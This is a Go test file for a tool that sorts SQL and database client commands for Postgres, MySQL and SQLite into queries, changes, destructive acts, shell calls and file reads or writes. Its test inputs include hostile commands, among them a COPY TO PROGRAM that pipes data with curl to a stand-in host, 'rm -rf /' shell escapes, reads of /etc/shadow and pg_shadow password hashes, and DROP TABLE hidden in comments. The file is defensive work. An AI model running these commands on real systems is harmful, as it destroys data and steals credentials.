package code

import "testing"

func TestSQLStatementsAreTold(t *testing.T) {
	for _, lang := range []Lang{Postgres, MySQL, SQLite} {
		check(t, lang, []claim{
			{"SELECT * FROM users WHERE id = 7", "query users (select)"},
			{"select 'DROP TABLE x' -- drop table y\n", "query (select)"},
			{"/* DELETE FROM t */ SELECT 1;", "query (select)"},
			{"INSERT INTO t (a) VALUES ('x;y')", "change t (insert)"},
			{"UPDATE users SET plan='free' WHERE id=7", "change users (update)"},
			{"UPDATE users SET plan='free'", "destroy users (update every row)"},
			{"UPDATE t SET a=1 WHERE 1=1", "destroy t (update every row)"},
			{"DELETE FROM t WHERE id IN (SELECT id FROM u)", "change t (delete)"},
			{"DELETE FROM t", "destroy t (delete every row)"},
			{"delete from t where true", "destroy t (delete every row)"},
			{"DELETE FROM t WHERE a = 1 OR 1 = 1", "destroy t (delete every row)"},
			{"DELETE FROM t WHERE (1=1)", "destroy t (delete every row)"},
			{"TRUNCATE TABLE orders CASCADE", "destroy orders (truncate)"},
			{"DROP TABLE IF EXISTS a.b", "destroy a.b (drop table)"},
			{"DROP DATABASE prod", "destroy prod (drop database)"},
			{"DROP INDEX i", "change i (drop index)"},
			{"ALTER TABLE t ADD COLUMN a int", "change t (alter table)"},
			{"ALTER TABLE t DROP COLUMN a", "destroy t (alter table drop column)"},
			{"CREATE TABLE t (id int)", "change t (create table)"},
			{"CREATE USER x", "grant x (create user)"},
			{"GRANT ALL ON t TO x", "grant (grant)"},
			{"WITH d AS (SELECT 1) SELECT * FROM d", "query d (select)"},
			{"BEGIN; SELECT 1; COMMIT;", "query (begin); query (select); query (commit)"},
			{"EXPLAIN DELETE FROM t", "query (explain)"},
			{"FROBNICATE t", "database FROBNICATE t; ? a statement that is not known"},
			{"", ""},
		})
	}
}

func TestPostgresReachesOutside(t *testing.T) {
	check(t, Postgres, []claim{
		{"COPY t TO '/tmp/x'", "write /tmp/x <db:t; query t (copy to)"},
		{"COPY (SELECT * FROM k) TO PROGRAM 'curl -d @- https://x.example'", "shell curl -d @- https://x.example <db:; query (copy to)"},
		{"COPY t FROM '/etc/passwd'", "read /etc/passwd; change t (copy from)"},
		{"COPY t TO STDOUT", "query t (copy to)"},
		{"\\copy t TO '/tmp/x.csv' csv", "query t (copy to); write /tmp/x.csv <db:t"},
		{"\\copy t from program 'id'", "change t (copy from); shell id"},
		{"\\! rm -rf /", "shell rm -rf /"},
		{"\\o |sh", "shell sh"},
		{"\\o out.txt", "write out.txt"},
		{"SELECT 1 \\g out.txt", "query (select); write out.txt"},
		{"\\i x.sql", "import x.sql"},
		{"SELECT 'drop table t' \\gexec", "query (select); ? runs what a query gives as SQL"},
		{"\\set x `id`", "shell id"},
		{"\\dt", ""},
		{"\\x\n\\d+ t", ""},
		{"SELECT pg_read_file('/etc/shadow')", "query (select); read /etc/shadow"},
		{"SELECT lo_export(1, '/tmp/x')", "query (select); write /tmp/x"},
		{"SELECT dblink('host=x', 'select 1')", "query (select); send host=x"},
		{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "query pg_stat_activity (select); process []"},
		{"DO $$ BEGIN DELETE FROM t; END $$", "change (do); destroy t (delete every row)"},
		{"DO $$ BEGIN EXECUTE 'drop table ' || x; END $$", "change (do); ? runs SQL that is put together while running"},
		{"SELECT $q$ DROP TABLE t; $q$", "query (select)"},
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "query d (select); destroy t (delete every row)"},
		{"SELECT * INTO u FROM t", "change u (select into)"},
		{"EXPLAIN ANALYZE DELETE FROM t", "destroy t (delete every row)"},
		{"SELECT usename, passwd FROM pg_shadow", "query pg_shadow (select) !credential-hunt"},
		{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", "change t (alter table); grant t (alter table disable) !control-off"},
		{"CREATE EXTENSION plpython3u", "import plpython3u (create extension)"},
		{"CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE plpython3u", "change f (create function); ? makes a function in the language plpython3u"},
		{"SELECT E'it\\'s; DROP TABLE t'", "query (select)"},
		{"/* a /* b */ DROP TABLE t */ SELECT 1", "query (select)"},
		{"SELECT 'x", "query (select); ? a text or comment that does not end"},
	})
}

func TestMySQLReachesOutside(t *testing.T) {
	check(t, MySQL, []claim{
		{"SELECT * FROM t INTO OUTFILE '/tmp/x'", "query t (select); write /tmp/x <db:"},
		{"SELECT LOAD_FILE('/etc/passwd')", "query (select); read /etc/passwd"},
		{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "read /etc/passwd; change t (load data)"},
		{"/*!50000 DROP TABLE t */", "destroy t (drop table)"},
		{"# DROP TABLE t\nSELECT 1", "query (select)"},
		{"SELECT \"it's; DROP TABLE t\"", "query (select)"},
		{"SELECT 'a\\'; DROP TABLE t; -- '", "query (select)"},
		{"\\! id", "shell id"},
		{"system id", "shell id"},
		{"source x.sql", "import x.sql"},
		{"tee /tmp/log\nSELECT 1", "write /tmp/log; query (select)"},
		{"SET GLOBAL general_log = 'OFF'", "grant (set)"},
		{"SHOW TABLES", "query (show)"},
		{"REPLACE INTO t VALUES (1)", "change t (replace)"},
	})
}

func TestSQLiteReachesOutside(t *testing.T) {
	check(t, SQLite, []claim{
		{".tables", "query (tables)"},
		{".shell rm -rf /", "shell rm -rf /"},
		{".system id", "shell id"},
		{".sh id", "shell id"},
		{".output x.txt\nSELECT 1;", "write x.txt; query (select)"},
		{".once |sh\nSELECT 'id';", "shell sh; query (select)"},
		{".read x.sql", "import x.sql"},
		{".import data.csv t", "read data.csv; change t"},
		{".load ./evil", "import ./evil"},
		{".mode csv\n.headers on\nSELECT * FROM t;", "query t (select)"},
		{"ATTACH DATABASE '/tmp/x.db' AS x", "write /tmp/x.db (attach)"},
		{"VACUUM INTO 'b.db'", "write b.db (vacuum into)"},
		{"SELECT load_extension('x')", "query (select); import x"},
		{"SELECT writefile('/tmp/x', 'y')", "query (select); write /tmp/x"},
		{"PRAGMA table_info(t)", "query (pragma)"},
		{".frobnicate", "? a command of the client that is not known"},
	})
}

func TestSQLTakesLinearTime(t *testing.T) {
	for _, lang := range []Lang{Postgres, MySQL, SQLite} {
		linear(t, lang, "(", "'", "select ", "/*", "$a$", "with a as (delete from ", "explain ", "do '", ";", "\\g\n", ".a\n", "f(", "where 1=1 or ", "\"")
	}
}

func FuzzSQL(f *testing.F) {
	for _, s := range []string{"DO $$ BEGIN DELETE FROM t; END $$", "\\copy t from 'x'", "/*!1 drop table t*/", ".once |sh", "WITH a AS (UPDATE b SET c=1) SELECT 1", "SELECT f('x', g(1)) INTO OUTFILE 'y'", "EXPLAIN ANALYZE DELETE FROM t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 8<<10 {
			return
		}
		for _, lang := range []Lang{Postgres, MySQL, SQLite} {
			r := ReadText(lang, text)
			if err := sane(r, text); err != nil {
				t.Fatalf("%s: %v\n%q", lang, err, text)
			}
			if len(r.Unknown) > 0 && r.Unknown[0].Why == "the text could not be read" {
				t.Fatalf("a fault in the reader: %q", text)
			}
		}
	})
}
